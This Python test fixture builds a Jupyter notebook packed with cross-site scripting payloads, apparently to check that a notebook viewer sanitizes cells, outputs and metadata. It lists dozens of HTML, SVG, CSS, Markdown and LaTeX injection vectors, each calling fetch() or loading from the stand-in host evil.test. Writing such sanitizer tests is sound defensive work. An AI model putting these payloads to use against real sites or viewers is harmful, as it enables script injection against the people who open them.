"""A notebook that tries to run scripts, and to reach another server, in the browser of whoever looks at it."""

import base64

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

# Who asks this server for something has run a script, or has been made to tell that the page was opened.
EVIL = "http://evil.test"
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="


def script(name: str) -> str:
    """Return a script that tells its name to the other server. It has no double quotes, blanks or angle brackets."""
    return f"fetch('{EVIL}/{name}')"


def html_attacks() -> dict[str, str]:
    """Return pieces of HTML that a browser runs a script of, or that reach the other server, by name."""
    run = script
    page = base64.b64encode(f"<script>{run('data-page')}</script>".encode()).decode()
    return {
        "script": f"<script>{run('script')}</script>",
        "script-src": f"<script src={EVIL}/script-src></script>",
        "img-onerror": f'<img src=x onerror="{run("img-onerror")}">',
        "img-upper": f'<IMG SRC=x ONERROR="{run("img-upper")}">',
        "svg-onload": f'<svg onload="{run("svg-onload")}"><circle r=5 /></svg>',
        "svg-script": f"<svg><script>{run('svg-script')}</script></svg>",
        "svg-open": f'<svg><animate onbegin="{run("svg-open")}" attributeName=x dur=1s>',
        "iframe-srcdoc": f'<iframe srcdoc="<script>{run("iframe-srcdoc")}</script>"></iframe>',
        "iframe-js": f'<iframe src="javascript:{run("iframe-js")}"></iframe>',
        "iframe-data": f"<iframe src=data:text/html;base64,{page}></iframe>",
        "object": f"<object data=data:text/html;base64,{page}></object>",
        "embed": f"<embed src=data:text/html;base64,{page}>",
        "body": f'<body onload="{run("body")}">',
        "details": f'<details open ontoggle="{run("details")}">x</details>',
        "input": f'<input autofocus onfocus="{run("input")}">',
        "video": f'<video src=x onerror="{run("video")}"></video>',
        "audio": f'<audio src=x onerror="{run("audio")}"></audio>',
        "style-import": f"<style>@import '{EVIL}/style-import';</style>",
        "style-url": f"<p style='background: url({EVIL}/style-url)'>x</p>",
        "style-escape": rf"<p style='background: u\72l({EVIL}/style-escape)'>x</p>",
        "style-list": f"<ul style='list-style: url({EVIL}/style-list)'><li>x</ul>",
        "link": f"<link rel=stylesheet href={EVIL}/link>",
        "meta": f"<meta http-equiv=refresh content='0;url={EVIL}/meta'>",
        "base": f"<base href={EVIL}/base/><img src=relative.png>",
        "form": f"<form action={EVIL}/form><button autofocus onfocus=this.form.submit()>go</button></form>",
        "math": f'<math><mtext><table><mglyph><style><!--</style><img src=x onerror="{run("math")}">',
        "noscript": f'<noscript><p title="</noscript><img src=x onerror={run("noscript")}>">',
        "textarea": f"</textarea></pre></div><script>{run('textarea')}</script>",
        "comment": f"<!--><script>{run('comment')}</script>-->",
        "attribute": f'<p title="--><script>{run("attribute")}</script>">x</p>',
        "template": f"<template><script>{run('template')}</script></template>",
        "marquee": f'<marquee onstart="{run("marquee")}">x</marquee>',
        "animation": f'<style>@keyframes a{{}}</style><p style="animation: a" onanimationstart="{run("animation")}">',
    }


def _outputs() -> list[NotebookNode]:
    def shown(data: dict, **metadata: dict) -> NotebookNode:
        return new_output("display_data", data=data, metadata=metadata)

    attribute = "1 onload={} onerror={}"
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script("svg")}"><script>{script("svg-inner")}</script></svg>'
    )
    widget = {"model_id": "m", "version_major": 2, "version_minor": 0}
    return [
        *(shown({"text/html": text}) for text in html_attacks().values()),
        shown({"text/html": f"<script>{script('isolated')}</script>"}, **{"text/html": {"isolated": True}}),
        shown({"application/javascript": script("javascript"), "text/plain": "what it would do"}),
        shown({"application/vnd.jupyter.widget-view+json": widget, "text/plain": "a slider"}),
        shown({"text/markdown": f'*text* <img src=x onerror="{script("output-markdown")}">'}),
        shown({"image/svg+xml": svg}),
        shown({"text/latex": f"$x$ <img src=x onerror={script('latex')}>"}),
        *(
            shown(
                {f"image/{kind}": PNG}, **{f"image/{kind}": {side: attribute.format(*[script(f"{kind}-{side}")] * 2)}}
            )
            for kind in ("png", "jpeg")
            for side in ("width", "height")
        ),
        shown({"image/png": "x"}, **{"image/png": {"alt": f'"><script>{script("alt")}</script>'}}),
        shown({"image/png": PNG}, filenames={"image/png": f"{EVIL}/filename"}),
        shown({"text/plain": f"<script>{script('plain')}</script>"}),
        new_output("stream", text=f"</pre><script>{script('stream')}</script>\x1b[31m<b>\x1b[0m"),
        new_output("error", ename="<b>", evalue="x", traceback=[f"<script>{script('traceback')}</script>"]),
    ]


def _texts() -> list[str]:
    run = script
    return [
        *html_attacks().values(),
        *(f"* a list\n\n  {text}" for text in html_attacks().values()),
        f"[press](javascript:{run('link')})",
        f"<javascript:{run('autolink')}>",
        f"![x]({EVIL}/image.png)",
        f"![x](x.png 'x\" onerror=\"{run('image-title')}')",
        f'# <img src=x onerror="{run("heading")}">',
        f"```html\n</code></pre><script>{run('code')}</script>\n```",
        f"```mermaid\n</pre><script>{run('mermaid')}</script>\n```",
        rf"$\href{{javascript:{run('math-href')}}}{{x}}$ $\text{{<img src=x onerror={run('math-text')}>}}$",
        rf"$$\unicode{{<script>{run('math-unicode')}</script>}}$$",
        rf"\begin{{align}}</p><script>{run('align')}</script>\end{{align}}",
        f'| <img src=x onerror="{run("table")}"> |\n|---|\n| x |',
        f"[a]: javascript:{run('reference')} 'x'\n[a]",
    ]


def scripted_notebook() -> NotebookNode:
    """Return a graded notebook full of scripts, and of things that have to stay to be seen."""
    cells = [new_markdown_cell(text) for text in _texts()]
    cells += [new_code_cell("show()", outputs=_outputs())]
    page = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="
    cells += [new_markdown_cell("![x](attachment:a.html)", attachments={"a.html": {"text/html": page}})]
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": {"m": {}}, "version_major": 2}}
    notebook = new_notebook(
        cells=cells, metadata={"widgets": widgets, "title": f"</title><script>{script('title')}</script>"}
    )
    for number, cell in enumerate(notebook.cells):
        cell.id = f"c{number}"
        cell.metadata.tags = [f'"><script>{script("tag")}</script>']
    return nbformat.from_dict(notebook)
